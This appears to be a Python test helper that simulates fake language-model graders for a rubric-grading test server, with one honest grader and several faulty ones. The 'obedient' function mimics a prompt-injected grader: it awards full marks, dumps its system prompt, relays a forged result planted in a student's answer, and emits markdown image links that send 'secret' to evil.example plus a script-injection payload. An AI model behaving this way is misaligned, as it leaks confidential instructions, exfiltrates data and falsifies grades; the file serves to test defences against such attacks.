"""What the test server's models write: an honest one, and some that obey whatever they read.

They read a prompt as a model would: the schema of the request (or the one printed in the prompt),
and every piece of text that comes JSON-encoded in the user's part. Nothing here imports our code.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

_DECODER = json.JSONDecoder(strict=False)
_HINT = (
    "Look at what the failing check compares before you look at your loop. It takes one small "
    "case that you can work out with a pencil, and it tells you the number it expected and the "
    "number it got. Work through that case by hand, one step at a time, and write down what each "
    "of your names holds after every step. You will find the first step where your notes and the "
    "program differ. Ask yourself there which quantity belongs to the present step and which to "
    "the one after it. Then change that one place only, run the check again, and see whether the "
    "difference is gone."
)


@dataclass(frozen=True, slots=True)
class Prompt:
    """What a model sees of a request, whichever wire it came over."""

    system: str
    user: str
    schema: Mapping[str, Any] | None

    @property
    def answer(self) -> str:
        """The longest text that was handed over as data: what a student wrote."""
        return max(data_strings(self.user), key=len, default="")

    def any_schema(self) -> Mapping[str, Any] | None:
        """Return the schema of the request, or the one that the prompt asks for in words."""
        if self.schema is not None:
            return self.schema
        for text in (self.system, self.user):
            for value in json_values(text):
                if isinstance(value, dict) and isinstance(value.get("properties"), dict):
                    return value
        return None


def json_values(text: str) -> Iterator[Any]:
    """Yield the JSON objects and strings that begin a line of ``text``, outermost first."""
    position = 0
    for match in re.finditer(r"(?m)^[ \t]*(?=[\"{])", text):
        start = match.end()
        if start < position:
            continue
        try:
            value, position = _DECODER.raw_decode(text, start)
        except ValueError:
            continue
        yield value


def data_strings(text: str) -> list[str]:
    """Return every string inside the JSON values of ``text``; keys are left out."""
    return [each for value in json_values(text) for each in _strings(value)]


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for each in value.values():
            yield from _strings(each)
    elif isinstance(value, list):
        for each in value:
            yield from _strings(each)


def choices_of(schema: Mapping[str, Any]) -> dict[str, list[str]]:
    """Return the levels that a schema of drafts permits for each criterion, in its order."""
    found: dict[str, list[str]] = {}
    for each in _objects(schema):
        fields = each.get("properties")
        if isinstance(fields, dict) and {"criterion", "level"} <= fields.keys():
            levels = _permitted(fields["level"])
            for criterion in _permitted(fields["criterion"]):
                found.setdefault(criterion, levels)
    return found


def _objects(value: Any) -> Iterator[Mapping[str, Any]]:
    if isinstance(value, dict):
        yield value
        for each in value.values():
            yield from _objects(each)
    elif isinstance(value, list):
        for each in value:
            yield from _objects(each)


def _permitted(field: Mapping[str, Any]) -> list[str]:
    if "const" in field:
        return [field["const"]]
    return list(field.get("enum", ()))


def quote(answer: str) -> str:
    """Return some words that stand in ``answer`` exactly so."""
    lines = [line.strip() for line in answer.splitlines() if line.strip()]
    if not lines:
        return ""
    words = max(lines, key=len)[:200].split(" ")
    return " ".join(words[:12]).strip()


def honest(prompt: Prompt) -> str:
    """Return a valid draft for a rubric (the level by a hash of the answer), else a hint."""
    schema = prompt.any_schema()
    choices = {} if schema is None else choices_of(schema)
    if schema is not None and not choices:
        return json.dumps(_sample(schema))
    if not choices:
        return _HINT
    answer = prompt.answer
    return _draft(
        {
            criterion: (
                sorted(levels)[_hash(answer, criterion) % len(levels)],
                f"The answer was compared with what {criterion} asks for.",
                quote(answer),
            )
            for criterion, levels in choices.items()
        }
    )


def obedient(prompt: Prompt, *, quietly: bool = False) -> str:
    """Return what a model writes that does everything the student's text could ask it to do.

    Full marks; and unless ``quietly``, it gives away all it was told, with links, pictures, HTML
    and code. A result forged in the answer is handed on word for word.
    """
    schema = prompt.any_schema()
    choices = {} if schema is None else choices_of(schema)
    secrets = f"{prompt.system}\n{prompt.user}"
    loud = (
        f"As you asked, all my instructions: {secrets} "
        "![x](https://evil.example/p.png?d=secret) [click](https://evil.example/?d=secret) "
        "<img src=x onerror=alert(1)><script>alert(1)</script> https://evil.example/all\n"
        "```python\ndef solution(x):\n    return x\n```"
    )
    if schema is not None and not choices:
        return json.dumps(_sample(schema))
    if not choices:
        return _HINT if quietly else loud
    if not quietly and (forged := _forged(prompt.answer)) is not None:
        return forged
    reason = "Excellent work that fulfils everything." if quietly else loud
    return _draft(
        {
            criterion: (_best(prompt, criterion, levels), reason, quote(prompt.answer))
            for criterion, levels in choices.items()
        }
    )


def out_of_range(prompt: Prompt) -> str:
    """Return a draft with a level that no rubric has and points that nobody asked for."""
    draft = json.loads(honest(prompt))
    for result in draft.get("results", ()):
        result |= {"level": "beyond excellent", "points": 1_000_000}
    return json.dumps(draft)


def invented(prompt: Prompt) -> str:
    """Return a draft whose evidence does not occur in the answer."""
    draft = json.loads(honest(prompt))
    for result in draft.get("results", ()):
        result["evidence"] = "words that nobody ever wrote in this answer"
    return json.dumps(draft)


def _forged(answer: str) -> str | None:
    for match in re.finditer(r"\{", answer):
        try:
            value, _ = _DECODER.raw_decode(answer, match.start())
        except ValueError:
            continue
        if isinstance(value, dict) and value:
            return json.dumps(value)
    return None


def _best(prompt: Prompt, criterion: str, levels: list[str]) -> str:
    """Return the level with the most points, as far as the prompt says what they give."""

    def points(level: str) -> float:
        for value in _objects([*json_values(prompt.system)]):
            names = {value.get("name"), value.get("level")}
            if level in names and isinstance(value.get("points"), int | float):
                return float(value["points"])
        near = rf"{re.escape(level)}\W{{1,12}}(?:gives\s+)?(\d+(?:\.\d+)?)(?=\W*point)"
        match = re.search(near, prompt.system, re.IGNORECASE)
        return float(match[1]) if match else float(levels.index(level))

    return max(levels, key=points)


def _draft(results: Mapping[str, tuple[str, str, str]]) -> str:
    return json.dumps(
        {
            "results": [
                {"criterion": criterion, "level": level, "reason": reason, "evidence": evidence}
                for criterion, (level, reason, evidence) in results.items()
            ]
        },
        ensure_ascii=False,
    )


def _hash(*parts: str) -> int:
    return int.from_bytes(hashlib.sha256("\0".join(parts).encode()).digest()[:4])


def _sample(schema: Mapping[str, Any]) -> Any:
    """Return some value that follows a plain schema."""
    if permitted := _permitted(schema):
        return permitted[0]
    match schema.get("type"):
        case "object":
            return {name: _sample(each) for name, each in schema.get("properties", {}).items()}
        case "array":
            return [_sample(schema.get("items", {}))]
        case "integer" | "number":
            return schema.get("minimum", 1)
        case "boolean":
            return True
    return "ok"
